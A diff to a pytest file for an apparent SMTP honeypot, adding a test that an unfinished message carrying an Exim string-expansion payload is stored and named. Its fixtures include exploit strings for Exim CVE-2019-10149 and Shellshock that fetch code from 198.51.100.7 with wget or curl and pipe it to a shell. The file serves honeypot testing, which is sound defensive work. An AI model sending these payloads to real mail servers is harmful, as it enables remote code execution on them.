@@ -11,13 +11,14 @@ import subprocess
 
 import pytest
 
-from support import relaypot, require
+from support import fetch, relaypot, require
 
 pytestmark = pytest.mark.slow  # nmap, hydra and medusa take their time
 
 EXPLOITER = "127.0.0.21"
 SMUGGLER = "127.0.0.22"
 MAILER = "127.0.0.23"
+QUITTER = "127.0.0.24"
 # CVE-2019-10149 as in Qualys' advisory, with a terminal escape inside the payload: the report
 # must show it, harmlessly.
 EXIM_RCPT = "RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20http://198.51.100.7/x\x1b[2J\\x22}}@localhost>"
@@ -50,6 +51,9 @@ def attacked(tmp_path_factory):
         talk(address, SMUGGLER, [b"EHLO x\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.com>\r\n",
                                  b"DATA\r\n", b"Subject: s\r\n\r\nx\n.\nMAIL FROM:<admin@example.com>\r\n.\r\n",
                                  b"QUIT\r\n"])
+        # Exim's CVE-2010-4344 payload in a message the attacker never finishes: kept, and named.
+        talk(address, QUITTER, [b"EHLO x\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.com>\r\n",
+                                b"DATA\r\n", b"X-Payload: ${run{/bin/sh -c 'id'}}\r\n\r\nunfinished"])
         with smtplib.SMTP(*address, timeout=10, source_address=(MAILER, 0)) as smtp:
             smtp.sendmail("a@example.org", ["b@example.com"],
                           "Subject: () { :; }; /bin/bash -c 'curl http://198.51.100.7/s|sh'\r\n\r\nhi\r\n")
@@ -94,6 +98,16 @@ def test_the_report_names_each_attack_and_what_was_sent(attacked):
     kinds = [h["kind"] for h in report["highlights"]]
     assert "attack" in kinds
     assert any("CVE-2019-10149" in h["text"] for h in report["highlights"])
+
+
+def test_a_message_the_attacker_hung_up_on_is_kept_and_named(attacked):
+    [(what, reason, size, path)] = fetch(attacked.store_url, "SELECT what, reason, size, path FROM fragments "
+                                                             f"WHERE src_ip = '{QUITTER}'")
+    sent = b"X-Payload: ${run{/bin/sh -c 'id'}}\r\n\r\nunfinished"
+    assert (what, reason, size) == ("message", "peer_closed", len(sent))
+    assert (attacked.data_dir / path).read_bytes() == sent
+    named = fetch(attacked.store_url, f"SELECT attack, place FROM attacks WHERE src_ip = '{QUITTER}'")
+    assert ("exim-string-expansion", "header") in named
 
 
 def test_the_terminal_and_the_page_show_the_attacks_escaped(attacked, tmp_path):
